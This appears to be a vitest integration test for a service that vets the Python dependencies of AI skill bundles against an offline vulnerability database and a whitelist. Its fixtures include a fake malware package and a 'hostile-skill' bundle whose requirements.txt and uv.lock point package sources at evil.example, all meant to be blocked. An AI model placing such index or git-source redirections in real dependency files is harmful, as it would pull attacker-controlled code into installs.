import { cp, mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseConfig } from "../../../src/config.js";
import { openServices } from "../../../src/runtime.js";
import { installGate, type Services } from "../../../src/service/services.js";
import { vetInstallTarget } from "../../../src/service/vet-target.js";
import { malwareRecord } from "../../helpers/advisory-zip.js";
import { DEMO_PACKAGES, startPackageIndex, type PackageIndex } from "../../helpers/package-index.js";
import { REPO_ROOT } from "../../helpers/repo-root.js";
import { toolConfig } from "../../helpers/tool-paths.js";

/*
 * Every door of a skill bundle through the real service: the files are read from a staged folder, each declared
 * requirement is resolved by uv against a loopback index and scanned by the offline OSV database, and what passes
 * is pre-installed. pyyaml 5.3 carries PYSEC-2020-96 in the PyPA fixture; tinycalc 1.1.0 is yanked here; evilcalc
 * 1.0.0 is malware (an OSV MAL- record added to a copy of the fixture).
 */
let index: PackageIndex;
let root: string;
let service: Services;

const stage = async (name: string, files: Record<string, string>): Promise<string> => {
  const dir = join(root, "staged", name);
  for (const [path, text] of Object.entries({
    "SKILL.md": `---\nname: ${name}\ndescription: ${name}\n---\nUses Python.\n`,
    ...files,
  })) {
    await mkdir(dirname(join(dir, path)), { recursive: true });
    await writeFile(join(dir, path), text);
  }
  return dir;
};
const vet = (dir: string, name: string) =>
  vetInstallTarget(
    installGate(service),
    { targetType: "skill", targetName: name, sourcePath: dir, sourcePathKind: "directory" },
    { source: "policy", client: "install-policy" },
  );

beforeAll(async () => {
  index = await startPackageIndex({
    packages: [
      ...DEMO_PACKAGES.filter((p) => !(p.name === "tinycalc" && p.version === "1.1.0")),
      { name: "tinycalc", version: "1.1.0", yanked: "miscompiled" },
      { name: "evilcalc", version: "1.0.0" },
    ],
  });
  root = await mkdtemp(join(tmpdir(), "pg-bundles-"));
  const advisories = join(root, "advisories");
  await cp(join(REPO_ROOT, "test", "fixtures", "pypa-advisories", "vulns"), join(advisories, "vulns"), {
    recursive: true,
  });
  await mkdir(join(advisories, "vulns", "evilcalc"));
  await writeFile(
    join(advisories, "vulns", "evilcalc", "MAL-2099-11.json"),
    JSON.stringify(malwareRecord("MAL-2099-11", "evilcalc", ["1.0.0"])),
  );
  service = await openServices(
    parseConfig(
      {
        whitelist: {
          includeDefault: false,
          tiers: {
            student: [
              { package: "pyyaml", version: ">=5.1,<7" },
              { package: "tinycalc", version: "" },
              { package: "datakit", version: ">=1,<2" },
              { package: "evilcalc", version: "" },
            ],
          },
        },
        hooks: { maturity: "student", preinstall: true },
        python: toolConfig(),
        index: { url: index.url },
        scan: { scanner: "osv-db", osvDbDir: join(root, "advisories") },
      },
      join(root, "state"),
    ),
  );
});
afterAll(async () => {
  await index?.close();
  if (root) await rm(root, { recursive: true, force: true });
});

describe("vetting every door of a skill bundle (real uv, offline advisories)", () => {
  it("a vulnerable pin in requirements.txt and in a PEP 723 block blocks, with each finding at its file", async () => {
    const dir = await stage("vuln-skill", {
      "requirements.txt": "# pinned by the author\npyyaml==5.3\n",
      "scripts/report.py": '# /// script\n# dependencies = ["tinycalc==1.1.0", "evil-pkg"]\n# ///\nimport tinycalc\n',
    });
    const v = await vet(dir, "vuln-skill");
    expect(v.decision).toBe("block");
    expect(v.findings.map((f) => [f.ruleId, f.file, f.line])).toEqual([
      ["package-guard.vulnerable", "requirements.txt", 2],
      ["package-guard.yanked", "scripts/report.py", 2],
      ["package-guard.not-whitelisted", "scripts/report.py", 2],
    ]);
    expect(v.reason).toContain("pyyaml==5.3 (requirements.txt:2): [VULNERABLE]");
    expect(v.reason).toContain("PYSEC-2020-96 in pyyaml 5.3");
    expect(v.reason).toContain("tinycalc==1.1.0 (scripts/report.py:2): [YANKED]");
    const audit = await service.operator.installations({ skillId: "vuln-skill", limit: 10 });
    expect(audit.map((a) => [a.source, a.status, a.package, a.code]).toReversed()).toEqual([
      ["policy", "blocked", "pyyaml", "VULNERABLE"],
      ["policy", "blocked", "tinycalc", "YANKED"],
      ["policy", "blocked", "evil-pkg", "NOT_WHITELISTED"],
    ]);
  });

  it("a malicious pin in a PEP 723 block and in requirements.txt blocks as MALICIOUS, each at its file", async () => {
    const dir = await stage("mal-skill", {
      "tools/run.py": '# /// script\n# dependencies = ["evilcalc>=1"]\n# ///\n',
      "requirements.txt": "evilcalc==1.0.0\npyyaml==5.3\n",
    });
    const v = await vet(dir, "mal-skill");
    expect(v.decision).toBe("block");
    expect(v.findings.map((f) => [f.ruleId, f.file, f.line])).toEqual([
      ["package-guard.malicious", "requirements.txt", 1],
      ["package-guard.vulnerable", "requirements.txt", 2],
      ["package-guard.malicious", "tools/run.py", 2],
    ]);
    expect(v.reason).toContain("evilcalc==1.0.0 (requirements.txt:1): [MALICIOUS]");
    expect(v.reason).toContain("evilcalc>=1 (tools/run.py:2): [MALICIOUS]");
    expect(v.reason).toContain("MAL-2099-11");
    const audit = await service.operator.installations({ skillId: "mal-skill", limit: 10 });
    expect(
      audit
        .filter((a) => a.code === "MALICIOUS")
        .map((a) => [a.requested, a.vulnerabilities])
        .toReversed(),
    ).toEqual([
      ["evilcalc==1.0.0", ["MAL-2099-11"]],
      ["evilcalc>=1", ["MAL-2099-11"]],
    ]);
  });

  it("option lines, a pyproject that does not parse and a lock with a git source block, and are audited", async () => {
    const dir = await stage("hostile-skill", {
      "requirements.txt": "--extra-index-url https://evil.example/simple\ntinycalc==1.0.0\n",
      "pyproject.toml": '[project]\ndependencies = ["pyyaml>=6,<7"\n',
      "uv.lock": 'version = 1\n[[package]]\nname = "x"\nversion = "1"\nsource = { git = "https://evil.example/x" }\n',
    });
    const v = await vet(dir, "hostile-skill");
    expect(v.decision).toBe("block");
    expect(v.findings.map((f) => [f.ruleId, f.file])).toEqual([
      ["package-guard.toml-invalid", "pyproject.toml"],
      ["package-guard.requirements-option", "requirements.txt"],
      ["package-guard.package-source", "uv.lock"],
    ]);
    const records = await service.operator.installations({ skillId: "hostile-skill", limit: 10 });
    const problems = records.find((r) => r.details?.problems !== undefined);
    expect(problems).toMatchObject({
      status: "blocked",
      code: "INVALID_REQUIREMENT",
      details: {
        problems: ["package-guard.toml-invalid", "package-guard.requirements-option", "package-guard.package-source"],
      },
    });
  });

  it("a clean bundle passes; its pre-install installs what passed, except what applies under a marker", async () => {
    const dir = await stage("clean-skill", {
      "pyproject.toml": '[project]\nname = "clean"\ndependencies = ["datakit>=1,<2"]\n',
      "requirements-dev.txt": 'pyyaml>=6,<7\ndatakit==1.0.0; sys_platform == "win32"\n',
      "uv.lock":
        'version = 1\n[[package]]\nname = "clean"\nversion = "0.1.0"\nsource = { virtual = "." }\n' +
        '[[package]]\nname = "tinycalc"\nversion = "1.0.0"\nsource = { registry = "https://pypi.org/simple" }\n',
    });
    const v = await vet(dir, "clean-skill");
    expect(v).toMatchObject({ decision: "allow", skill: "clean-skill" });
    expect(v.preinstall).toEqual(["datakit>=1,<2", "pyyaml>=6,<7", "tinycalc==1.0.0"]);
    const outcomes = await service.packages.preinstallSkill("clean-skill", v.preinstall, {
      source: "hook",
      agentId: null,
      client: "test",
    });
    expect(outcomes.map((o) => o.error?.message ?? `${o.result?.package}==${o.result?.version}`)).toEqual([
      "datakit==1.0.0",
      "pyyaml==6.0.2",
      "tinycalc==1.0.0",
    ]);
  });
});
